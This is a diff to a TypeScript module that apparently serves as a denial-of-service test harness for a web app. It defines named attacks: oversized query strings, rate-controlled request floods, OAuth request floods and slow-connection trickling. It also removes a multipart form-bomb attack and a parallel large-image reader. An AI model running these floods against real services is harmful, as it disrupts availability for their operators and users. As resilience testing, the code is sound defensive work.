@@ -11,10 +11,6 @@ export type Target = Readonly<{
   heavy: { token: string; lists: readonly string[] }
   /** Tokens of the managers of one app. */
   managers: { tokens: readonly string[]; app: string }
-  /** Somebody who may upload a picture, and where. */
-  uploader: { token: string; path: string }
-  /** Where a large picture is shown. */
-  picture: string
 }>
 
 /** What was sent and answered, and which share of a processor the attacker itself took. */
@@ -37,17 +33,11 @@ export const WORST_QUERY = `${EVENTS}&${spell(199).join(`=${'%C3%A9'.repeat(11)}
 /** As many parameters as fit, where the router would read a query as well. */
 export const FRAGMENT_QUERY = `/v0.1/apps#${Array.from({ length: 3000 }, (_, n) => n).join('&')}`
 
-export const PARTS_PER_FORM = 20_000
-const BOUNDARY = 'x'
-const FORM = Buffer.from(
-  `${`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(PARTS_PER_FORM).slice(0, 1_040_000)}--${BOUNDARY}--\r\n`,
-)
-
 type Sent = {
   signal?: AbortSignal
   method?: string
   token?: string
-  body?: string | Buffer
+  body?: string
   type?: string
 }
 
@@ -77,18 +67,17 @@ export function ask(agent: Agent, url: string, sent: Sent = {}, tally?: Tally): 
   })
 }
 
-/** So many a second, whether earlier ones are answered or not, but never more than `most` at once. */
+/** So many a second, whether earlier ones are answered or not, but never more than 500 at once. */
 async function atRate(
   perSecond: number,
   over: AbortSignal,
   send: (turn: number) => Promise<unknown>,
-  most = 500,
 ): Promise<void> {
   const startedAt = performance.now()
   let inFlight = 0
   for (let turn = 0; !over.aborted; turn++) {
     await delay(Math.max(0, startedAt + (turn * 1000) / perSecond - performance.now()))
-    if (inFlight >= most) continue
+    if (inFlight >= 500) continue
     inFlight++
     void send(turn).finally(() => inFlight--)
   }
@@ -178,23 +167,6 @@ export const ATTACKS = {
       const [path, sent] = OAUTH[turn % OAUTH.length]?.(turn) ?? ['', {}]
       return ask(agent, url + path, sent, tally)
     })
-  },
-  'forms of 20,000 parts, 10/s': async (target, tally, over) => {
-    const { url, uploader } = target
-    const agent = openAgent(target, over)
-    const type = `multipart/form-data; boundary=${BOUNDARY}`
-    const sent = { method: 'POST', token: uploader.token, body: FORM, type }
-    await atRate(10, over, () => ask(agent, url + uploader.path, sent, tally), 20)
-  },
-  '100 readers of a picture of 1 MiB': async (target, tally, over) => {
-    const { url, picture } = target
-    const agent = openAgent(target, over, 100)
-    const read = async () => {
-      while (!over.aborted) {
-        if ((await ask(agent, url + picture, {}, tally)) !== 200) await delay(500)
-      }
-    }
-    await Promise.all(Array.from({ length: 100 }, read))
   },
   '1,000 slow connections': (target, tally, over) => trickle(1000, target, tally, over),
 } as const satisfies Record<string, Attack>
